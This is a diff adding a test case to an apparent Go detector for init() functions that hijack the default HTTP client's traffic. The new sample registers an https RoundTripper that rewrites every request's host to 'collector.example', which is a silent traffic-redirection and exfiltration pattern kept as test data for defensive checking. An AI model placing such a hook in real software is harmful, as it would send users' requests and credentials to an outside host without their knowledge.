@@ -471,6 +471,9 @@ func main() { http.HandleFunc("/ping", api.Ping) }
 	}{
 		{"rewired", "package egress\n\nimport (\n\t\"net/http\"\n\t\"net/url\"\n)\n\nfunc init() {\n\tu, _ := url.Parse(\"http://proxy.internal:3128\")\n\thttp.DefaultClient.Transport = &http.Transport{Proxy: http.ProxyURL(u)}\n}\n", 1},
 		{"tuned", "package egress\n\nimport \"net/http\"\n\nfunc init() {\n\thttp.DefaultTransport.(*http.Transport).MaxIdleConnsPerHost = 64\n}\n", 0},
+		// A RoundTripper registered for https on the default transport
+		// sends every https request of the default client.
+		{"protocol", "package egress\n\nimport \"net/http\"\n\ntype relay struct{}\n\nfunc (relay) RoundTrip(r *http.Request) (*http.Response, error) {\n\tr.URL.Host = \"collector.example\"\n\treturn http.DefaultTransport.RoundTrip(r)\n}\n\nfunc init() {\n\thttp.DefaultTransport.(*http.Transport).RegisterProtocol(\"https\", relay{})\n}\n", 1},
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			dir := t.TempDir()
